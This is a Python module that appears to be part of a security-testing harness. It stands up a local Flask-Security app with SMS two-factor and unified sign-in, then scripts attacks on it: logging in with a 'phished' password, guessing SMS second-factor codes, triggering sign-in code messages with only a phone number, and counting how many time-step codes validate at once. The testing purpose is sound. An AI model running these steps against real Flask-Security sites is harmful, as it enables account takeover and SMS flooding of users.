"""Attacks on Flask-Security: its second factor by SMS, and codes sent at its unified sign-in.

The attacker has the password and wants past the code; for messages, no login is needed.
"""

from __future__ import annotations

import re
import time
from typing import Any

from attack import Browser, Target, Victim, main
from flask import Flask
from flask_security import (
    Security,
    SmsSenderBaseClass,
    SmsSenderFactory,
    SQLAlchemyUserDatastore,
    hash_password,
    uia_email_mapper,
    uia_phone_mapper,
)
from flask_security.models import fsqla_v3
from flask_security.totp import Totp
from flask_sqlalchemy import SQLAlchemy

PASSWORD = "what the attacker has phished"
STEP = 30


class FlaskSecurity(Target):
    """Two-factor and unified sign-in switched on; everything else as it comes."""

    package = "Flask-Security"
    beside = ("Flask",)
    sender = "anybody who knows the number of a user"

    def app(self) -> Flask:
        """A Flask app with the bundled models, and a sender that counts."""
        meter = self.meter

        class Counting(SmsSenderBaseClass):
            def send_sms(self, from_number: str, to_number: str, msg: str) -> None:
                meter.note_message(re.findall(r"\d{6}", msg)[-1])

        SmsSenderFactory.senders["counting"] = Counting
        Totp.verify_totp = meter.watch(Totp.verify_totp)
        app = Flask("attacked")
        app.config.update(
            SECRET_KEY="a secret of this run",
            SECURITY_PASSWORD_SALT="a salt of this run",
            SECURITY_TOTP_SECRETS={"1": "TjQ9Qa31VOrfEzuPy4VHQWPCTmRzCnFzMKLxXYiZu9A"},
            SECURITY_TOTP_ISSUER="attacked",
            SECURITY_TWO_FACTOR=True,
            SECURITY_UNIFIED_SIGNIN=True,
            SECURITY_SMS_SERVICE="counting",
            SECURITY_USER_IDENTITY_ATTRIBUTES=[
                {"email": {"mapper": uia_email_mapper}},
                {"us_phone_number": {"mapper": uia_phone_mapper}},
            ],
            SQLALCHEMY_DATABASE_URI=f"sqlite:///{self.database}",
            WTF_CSRF_ENABLED=False,
        )
        db = SQLAlchemy(app)
        fsqla_v3.FsModels.set_db_info(db)

        class Role(db.Model, fsqla_v3.FsRoleMixin):
            pass

        class User(db.Model, fsqla_v3.FsUserMixin):
            pass

        class WebAuthn(db.Model, fsqla_v3.FsWebAuthnMixin):
            pass

        self._users = SQLAlchemyUserDatastore(db, User, Role)
        self._security = Security(app, self._users)
        self._db, self._app = db, app
        with app.app_context():
            db.create_all()
        return app

    def enrol(self, victim: Victim) -> None:
        """A user with both uses of a phone set up."""
        mobile = victim.data["mobile"] = f"+120255501{victim.number:02}"
        victim.data["email"] = f"victim{victim.number}@example.com"
        with self._app.app_context():
            user = self._users.create_user(
                email=victim.data["email"], password=hash_password(PASSWORD)
            )
            secret = self._security.totp_factory.generate_totp_secret()
            self._users.tf_set(user, "sms", totp_secret=secret, phone=mobile)
            user.us_phone_number = mobile
            self._users.us_set(user, "sms", secret, mobile)
            self._db.session.commit()
        victim.data["secret"] = secret

    def ask(self, victim: Victim) -> None:
        """Enter the password, in a new session."""
        browser = Browser(victim.browser.port, victim.browser.address)
        browser.post_json("/login", {"email": victim.data["email"], "password": PASSWORD})
        victim.browser = browser

    come_again = ask

    def guess(self, victim: Victim, code: str) -> bool:
        """Enter a second factor."""
        return victim.browser.post_json("/tf-validate", {"code": code}).status == 200

    def flood(self, victim: Victim) -> None:
        """Ask for a sign-in code, knowing nothing but the number."""
        stranger = Browser(victim.browser.port, victim.browser.address)
        wanted = {"identity": victim.data["mobile"], "chosen_method": "sms"}
        stranger.post_json("/us-signin/send-code", wanted)

    def right_codes(self, victim: Victim) -> set[str]:
        """The codes of ten minutes before and after."""
        return set(self._clock_codes(victim))

    def codes_valid_at_once(self) -> int:
        """Enter the code of every half minute around now."""
        victim = self.victim()
        taken = 0
        for code in dict.fromkeys(self._clock_codes(victim)):
            if self.guess(victim, code):
                taken += 1
                self.come_again(victim)
        return taken

    def _clock_codes(self, victim: Victim) -> list[str]:
        with self._app.app_context():
            source: Any = self._security.totp_factory._totp.from_source(victim.data["secret"])
        now = time.time()
        return [source.generate(time=now + STEP * step).token for step in range(-20, 21)]


if __name__ == "__main__":
    main(FlaskSecurity)
